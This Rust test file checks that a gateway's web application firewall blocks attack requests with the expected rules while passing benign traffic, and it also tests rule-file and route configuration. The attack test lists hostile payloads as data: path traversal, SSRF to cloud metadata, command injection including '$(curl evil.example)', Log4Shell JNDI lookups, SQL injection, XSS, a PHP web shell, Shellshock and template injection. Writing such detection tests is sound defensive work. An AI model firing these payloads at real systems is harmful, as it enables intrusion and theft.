//! The built-in set on requests: what it refuses, with which rule, and what it must let through.

use std::sync::Arc;

use gateway_waf::{Connection, Ruleset, Services, Transaction, Verdict};

use super::*;

const BENIGN: &str = include_str!("../../crates/waf/tests/data/benign.tsv");

fn built_in() -> Arc<Ruleset> {
    load(&Waf::default()).expect("built-in rules").ruleset
}

struct Request<'a> {
    method: &'a str,
    uri: &'a str,
    headers: &'a [(&'a str, &'a str)],
    body: &'a [u8],
}

/// The verdict, and the ids of the rules that matched.
fn inspect(ruleset: &Arc<Ruleset>, request: &Request<'_>) -> (Verdict, Vec<u64>) {
    let mut tx = Transaction::new(Arc::clone(ruleset), Services::default());
    tx.begin(&Connection {
        client: ([192, 0, 2, 1], 40000).into(),
        server: ([192, 0, 2, 2], 443).into(),
        unix_nanos: 1_763_712_000_000_000_000,
        utc_offset_seconds: 0,
        unique_id: "test",
        web_app_id: "default",
    });
    tx.request_line(request.method.as_bytes(), request.uri.as_bytes(), b"HTTP/1.1");
    tx.request_header(b"Host", b"www.example.org");
    for (name, value) in request.headers {
        tx.request_header(name.as_bytes(), value.as_bytes());
    }
    let mut verdict = tx.request_headers();
    if !verdict.is_blocking() {
        if tx.wants_request_body() {
            tx.write_request_body(request.body);
        }
        verdict = tx.request_body();
    }
    tx.logging(1_763_712_000_000_000_000);
    (verdict, tx.matches().iter().map(|m| m.rule.id).collect())
}

#[test]
fn attacks_are_refused_by_the_rule_that_knows_them() {
    const FORM: &[(&str, &str)] = &[("Content-Type", "application/x-www-form-urlencoded")];
    const JSON: &[(&str, &str)] = &[("Content-Type", "application/json")];
    let ruleset = built_in();
    let check = |rule: u64, method: &str, uri: &str, headers: &[(&str, &str)], body: &str| {
        let (verdict, rules) = inspect(&ruleset, &Request { method, uri, headers, body: body.as_bytes() });
        assert_eq!(verdict, Verdict::Deny { status: 403, rule_id: 5_100_900 }, "{uri} {body} {rules:?}");
        assert!(rules.contains(&rule), "{uri} {body}: {rule} not among {rules:?}");
    };
    let get = |rule, uri| check(rule, "GET", uri, &[], "");
    get(5_100_300, "/../../etc/passwd");
    get(5_100_300, "/download?file=..%2f..%2f..%2fetc%2fhosts");
    get(5_100_300, "/download?file=..%252f..%252fsecret");
    get(5_100_301, "/view?page=/etc/passwd");
    get(5_100_301, "/view?page=%2Fproc%2Fself%2Fenviron");
    get(5_100_302, "/view?page=php://filter/convert.base64-encode/resource=index");
    get(5_100_303, "/fetch?url=http://169.254.169.254/latest/meta-data/");
    get(5_100_201, "/.git/config");
    get(5_100_201, "/.env");
    get(5_100_400, "/ping?host=127.0.0.1;cat%20/tmp/x");
    get(5_100_400, "/ping?host=a%7Cid");
    get(5_100_403, "/?x=${jndi:ldap://evil.example/a}");
    get(5_100_500, "/item?id=1%27%20OR%20%271%27=%271");
    get(5_100_500, "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--");
    get(5_100_501, "/item?id=1%20and%20sleep(5)");
    get(5_100_600, "/q?s=%3Cscript%3Ealert(1)%3C/script%3E");
    get(5_100_600, "/q?s=%3Cimg%20src=x%20onerror=alert(1)%3E");
    get(5_100_700, "/q?s=%3C?php%20system($_GET[0]);");
    get(5_100_703, "/q?__proto__[admin]=1");
    get(5_100_704, "/q?name={{7*7}}");
    get(5_100_704, "/q?name={{config.items()}}");
    get(5_100_102, "/q?lang=en%0d%0aSet-Cookie:%20a=b");
    check(5_100_200, "GET", "/", &[("User-Agent", "sqlmap/1.7")], "");
    check(5_100_402, "GET", "/", &[("User-Agent", "() { :; }; /bin/bash -c id")], "");
    check(5_100_403, "GET", "/", &[("X-Api-Version", "${jndi:rmi://evil/x}")], "");
    check(5_100_500, "POST", "/login", FORM, "user=admin%27--&password=x");
    check(5_100_600, "POST", "/comments", FORM, "comment=%3Csvg/onload=alert(1)%3E");
    check(5_100_500, "POST", "/api/items", JSON, r#"{"filter":{"name":"x' or 1=1--"}}"#);
    check(5_100_400, "POST", "/api/ping", JSON, r#"{"host":"$(curl evil.example)"}"#);
}

#[test]
fn benign_requests_pass() {
    let ruleset = built_in();
    let mut count = 0;
    let mut refused = Vec::new();
    for line in BENIGN.lines().filter(|l| !l.starts_with('#')) {
        let mut columns = line.split('\t');
        let mut next = || columns.next().unwrap_or("");
        let (method, uri, kind, body, cookie) = (next(), next(), next(), next(), next());
        let body = unescape(body);
        let length = body.len().to_string();
        let mut headers = vec![
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
            ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
            ("Referer", "https://www.example.org/search?q=chairs&page=2"),
        ];
        if !kind.is_empty() {
            headers.extend([("Content-Type", kind), ("Content-Length", length.as_str())]);
        }
        if !cookie.is_empty() {
            headers.push(("Cookie", cookie));
        }
        let (verdict, rules) = inspect(&ruleset, &Request { method, uri, headers: &headers, body: &body });
        count += 1;
        if verdict != Verdict::Pass {
            refused.push(format!("{method} {uri} {} by {rules:?}", String::from_utf8_lossy(&body)));
        }
    }
    assert!(count >= 300, "only {count} requests");
    assert!(refused.is_empty(), "{} of {count} refused:\n{}", refused.len(), refused.join("\n"));
}

/// `\r`, `\n` and `\\` of the data file as bytes.
fn unescape(text: &str) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut bytes = text.bytes();
    while let Some(byte) = bytes.next() {
        match (byte, byte == b'\\') {
            (_, true) => match bytes.next() {
                Some(b'r') => out.push(b'\r'),
                Some(b'n') => out.push(b'\n'),
                Some(other) => out.push(other),
                None => out.push(b'\\'),
            },
            (other, false) => out.push(other),
        }
    }
    out
}

#[test]
fn a_bad_file_is_refused_with_its_place() {
    let folder = std::env::temp_dir().join(format!("gateway-rules-{}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("folder");
    let file = folder.join("bad.conf");
    std::fs::write(&file, "SecRuleEngine On\nSecRule ARGS \"@rx (\" \"id:1,phase:2,deny\"\n").expect("file");
    let error = load(&Waf { rules: Origin::Files(vec![file.clone()]), ..Waf::default() })
        .expect_err("refused")
        .to_string();
    assert!(error.contains(&format!("{}:2:", file.display())), "{error}");
    let missing = folder.join("none.conf");
    let error = load(&Waf { rules: Origin::Files(vec![missing.clone()]), ..Waf::default() })
        .expect_err("refused")
        .to_string();
    assert!(error.contains(&missing.display().to_string()), "{error}");
    std::fs::remove_dir_all(&folder).expect("folder");
}

/// A folder of rule files that goes away.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str, files: &[(&str, &str)]) -> Self {
        let path = std::env::temp_dir().join(format!("gateway-rules-{name}-{}", std::process::id()));
        for (file, text) in files {
            let file = path.join(file);
            std::fs::create_dir_all(file.parent().expect("folder")).expect("folder");
            std::fs::write(file, text).expect("file");
        }
        Self(path)
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn configured(waf: &str, routes: &str) -> Waf {
    let text = format!("[waf]\n{waf}\n[[upstreams]]\nname = \"u\"\nservers = [\"127.0.0.1:1\"]\n{routes}");
    crate::config::Config::parse(Path::new("g.toml"), &text).unwrap_or_else(|e| panic!("{e}")).waf
}

#[test]
fn what_routes_exclude_is_checked_with_its_place() {
    let routes = "[[routes]]\nupstream = \"u\"\nwaf_exclude = [\n  { id = 5100500 },\n  { id = 999999 },\n  \
                  { tag = \"no-such-tag\" },\n  { id = \"5100500-5100599\", target = \"ARGS:q\" },\n]\n";
    let loaded = load(&configured("", routes)).expect("taken");
    let got: Vec<String> = loaded.notices.iter().map(ToString::to_string).collect();
    for expected in [
        "g.toml:10:3: warning: no rule has the id 999999",
        "g.toml:11:3: warning: no rule has the tag no-such-tag",
    ] {
        assert!(got.iter().any(|n| n.starts_with(expected)), "{expected}: {got:#?}");
    }
    assert_eq!(got.iter().filter(|n| n.starts_with("g.toml")).count(), 2, "{got:#?}");
    // A variable that there is not is an error, at its place as well.
    let routes = "[[routes]]\nupstream = \"u\"\nwaf_exclude = [{ id = 5100500, target = \"ARGZ:q\" }]\n";
    let error = load(&configured("", routes)).expect_err("refused").to_string();
    assert!(error.starts_with("g.toml:8:16: error: "), "{error}");
}

#[test]
fn wrong_keys_of_routes_are_refused() {
    for (keys, expected) in [
        ("waf_paranoia_level = 5", "`waf_paranoia_level` must be from 1 to 4."),
        ("waf_inbound_threshold = 0", "`waf_inbound_threshold` must be from 1 to 100000."),
        ("waf_exclude = [{ target = \"ARGS\" }]", "an exclusion has either `id` or `tag`"),
        ("waf_exclude = [{ id = 1, tag = \"a\" }]", "an exclusion has either `id` or `tag`"),
        ("waf_exclude = [{ id = \"1;x\" }]", "`id` is an id, a range"),
        ("waf_exclude = [{ tag = \"a,deny\" }]", "`tag` has 1 to 256"),
        ("waf_exclude = [{ id = 1, target = \"ARGS|FILES\" }]", "`target` is one variable"),
        ("waf_exclude = [{ id = 1, target = \"ARGS\\\",deny\" }]", "`target` is one variable"),
    ] {
        let text = format!(
            "[[upstreams]]\nname = \"u\"\nservers = [\"127.0.0.1:1\"]\n[[routes]]\nupstream = \"u\"\n{keys}\n"
        );
        let error = crate::config::Config::parse(Path::new("g.toml"), &text).expect_err(keys).to_string();
        assert!(error.contains(expected), "{keys}: {error}");
    }
}

/// A set of the shape of CRS: crs-setup.conf sets a level without asking, the rules follow it.
const SETUP: &str = "SecAction \"id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=1,\
    setvar:tx.inbound_anomaly_score_threshold=5\"\n";
const INITIALISATION: &str =
    "SecAction \"id:901,phase:1,pass,nolog,setvar:tx.blocking_inbound_anomaly_score=0\"\n";
const RULES: &str = "SecRule TX:blocking_paranoia_level \"@ge 2\" \"id:910,phase:2,deny,status:403,chain\"\n\
    SecRule ARGS \"@contains odd\" \"t:none\"\n\
    SecRule ARGS \"@contains evil\" \"id:920,phase:2,pass,setvar:tx.blocking_inbound_anomaly_score=+5\"\n\
    SecRule TX:blocking_inbound_anomaly_score \"@ge %{tx.inbound_anomaly_score_threshold}\" \"id:949,phase:2,deny,status:403\"\n";

#[test]
fn a_folder_is_a_core_rule_set_and_a_routes_level_wins_over_its_setup() {
    let folder = Folder::new(
        "crs",
        &[
            ("crs-setup.conf", SETUP),
            ("rules/REQUEST-901-INITIALIZATION.conf", INITIALISATION),
            ("rules/REQUEST-920-X.conf", RULES),
            ("plugins/x-before.conf", "SecAction \"id:800,phase:1,pass,nolog\"\n"),
        ],
    );
    let waf = configured(
        &format!("rules = [\"{}\"]", folder.0.display()),
        "[[routes]]\nupstream = \"u\"\nwaf_paranoia_level = 2\nwaf_inbound_threshold = 6\n",
    );
    let loaded = load(&waf).expect("loads");
    assert!(loaded.notices.iter().all(|n| n.level != Level::Warning), "{:?}", loaded.notices);
    let ids: Vec<u64> = loaded.ruleset.rules().map(|r| r.id).collect();
    for id in [200_000, 900_000, 800, 901, 949] {
        assert!(ids.contains(&id), "{id} is missing: {ids:?}");
    }
    assert!(loaded.files.contains(&folder.0.join("rules")), "a new file is noticed: {:?}", loaded.files);
    for (policy, uri, refused) in [
        (0, "/?a=odd", false),
        (1, "/?a=odd", true),
        (0, "/?a=evil", true),
        (1, "/?a=evil", false),
        (0, "/?a=odd", false),
    ] {
        let mut tx = Transaction::new(Arc::clone(&loaded.ruleset), Services::default());
        tx.begin(&Connection {
            client: ([192, 0, 2, 1], 40000).into(),
            server: ([192, 0, 2, 2], 443).into(),
            unix_nanos: 1_763_712_000_000_000_000,
            utc_offset_seconds: 0,
            unique_id: "test",
            web_app_id: "default",
        });
        if policy > 0 {
            tx.set_tx(crate::config::policy::POLICY_KEY, b"1");
        }
        tx.request_line(b"GET", uri.as_bytes(), b"HTTP/1.1");
        tx.request_headers();
        assert_eq!(tx.request_body().is_blocking(), refused, "{policy} {uri}");
    }
}

#[test]
fn what_changes_in_files_and_folders_shows_in_the_stamp() {
    let folder = Folder::new("stamp", &[("a.conf", "SecRuleEngine On\n")]);
    let waf = configured(&format!("rules = [\"{}/*.conf\"]", folder.0.display()), "");
    let files = load(&waf).expect("loads").files;
    let before = stamp(&files);
    assert_eq!(before, stamp(&files));
    std::fs::write(folder.0.join("a.conf"), "SecRuleEngine Off\n# longer\n").expect("file");
    let changed = stamp(&files);
    assert_ne!(before, changed);
    std::fs::write(folder.0.join("b.conf"), "").expect("file");
    assert_ne!(changed, stamp(&files));
}
